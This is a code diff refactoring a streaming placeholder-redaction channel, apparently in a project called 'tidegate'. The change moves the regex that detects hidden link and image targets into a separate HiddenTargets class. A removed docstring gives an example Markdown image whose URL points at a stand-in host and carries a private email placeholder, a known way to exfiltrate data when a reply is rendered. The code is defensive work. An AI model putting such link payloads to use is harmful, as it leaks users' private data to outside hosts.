@@ -3,39 +3,21 @@
 A channel is fed the pieces of one logical text (the content of one choice, the arguments of one tool call) and says
 which stretches are to be replaced.  A stretch at the end that may still become a placeholder is *pending*: the channel
 has not settled it, and whoever feeds the channel holds that much back and no more.
-It must never ask for the text again, hold more than one placeholder's length, or put a value into the hidden target of
-a link or picture: a reply that says ``![](https://elsewhere/?q=[EMAIL-7f3a])`` would carry it out by being shown.
+It must never ask for the text again, hold more than one placeholder's length, or put a value into a target that nobody
+reads (``hidden_targets``).
 """
 
 from __future__ import annotations
 
 import re
 from collections.abc import Callable
-from typing import Final, NamedTuple
+from typing import NamedTuple
 from urllib.parse import quote
 
+from tidegate.wire.hidden_targets import HiddenTargets
 from tidegate.wire.json_codings import escaped
 from tidegate.wire.nesting import Nesting
 from tidegate.wire.placeholders import BEGINNING, SPELLING, START, Vault
-
-#: What may stand before an address: line ends of JSON in JSON are letters here.
-_BETWEEN: Final = r"(?:[ /\\]|\\[nrt]){0,8}"
-#: Where a target on the web that is fetched or followed, and not read by a person, begins: HTML, in which browsers take
-#: backslashes for slashes, then Markdown, whose renderers encode them.  White space was made single before.
-_TARGET: Final = re.compile(
-    rf"""\b(?:src|href|srcset|action|poster|background) ?={_BETWEEN}(?P<quote>["']?){_BETWEEN}"""
-    rf"""(?:https?:|//|\\[/\\]\w)|\](?:\(|:){_BETWEEN}(?P<angle><?){_BETWEEN}(?:https?:|//)""",
-    re.IGNORECASE,
-)
-_TARGET_END: Final = {
-    "": re.compile(r"[\s)>\"']"),
-    "<": re.compile(r"[>\n]"),
-    '"': re.compile(r'"'),
-    "'": re.compile(r"'"),
-}
-_SPACES: Final = re.compile(r"\s+")
-#: Characters kept to see a target that begins in one piece and goes on in the next.
-_LOOK_BEHIND: Final = 48
 
 
 class Edit(NamedTuple):
@@ -57,14 +39,13 @@ class Channel:
     ``written`` turns a value into what stands for it in this kind of text (HTML escapes, say), before JSON's own.
     """
 
-    __slots__ = ("_behind", "_hidden", "_nesting", "_vault", "_written", "fed", "pending", "settled")
+    __slots__ = ("_nesting", "_targets", "_vault", "_written", "fed", "pending", "settled")
 
     def __init__(self, vault: Vault, written: Callable[[str], str] = plain) -> None:
         self._vault = vault
         self._written = written
         self._nesting = Nesting()
-        self._behind = ""
-        self._hidden: re.Pattern[str] | None = None  # what ends the hidden target that we are in
+        self._targets = HiddenTargets()
         self.pending = ""
         self.settled = 0
         self.fed = False
@@ -91,7 +72,7 @@ class Channel:
             if whole is not None and value is not None:
                 first = position + _kept(whole)
                 self._pass(text[done:first])
-                if self._hidden is None:
+                if not self._targets.hidden:
                     edits.append(Edit(base + first, base + whole.end(), self._encoded(value, whole["open"])))
                 self._pass(text[first : whole.end()])
                 done = position = whole.end()
@@ -114,8 +95,7 @@ class Channel:
     def restart(self) -> None:
         """What comes next begins the text again from its beginning."""
         self.give_up()
-        self._nesting = Nesting()
-        self._behind, self._hidden = "", None
+        self._nesting, self._targets = Nesting(), HiddenTargets()
 
     def _may_begin(self, text: str, position: int, weak: bool) -> bool:
         found = BEGINNING.match(text, position)
@@ -126,18 +106,7 @@ class Channel:
     def _pass(self, text: str) -> None:
         if text:
             self._nesting.feed(text)
-            self._watch(text)
-
-    def _watch(self, text: str) -> None:
-        """Whether the text so far ends inside a hidden target."""
-        if self._hidden is not None and self._hidden.search(text):
-            self._hidden = None
-        window = self._behind + _SPACES.sub(" ", text)
-        self._behind = window[-_LOOK_BEHIND:]
-        if "](" in window or "]:" in window or "=" in window:
-            for target in _TARGET.finditer(_SPACES.sub(" ", window)):
-                ending = _TARGET_END[target["quote"] or target["angle"] or ""]
-                self._hidden = None if ending.search(target.string, target.end()) else ending
+            self._targets.feed(text)
 
     def _encoded(self, value: str, opening: str) -> str:
         value = value.encode("utf-8", "replace").decode()  # half a surrogate pair has no bytes
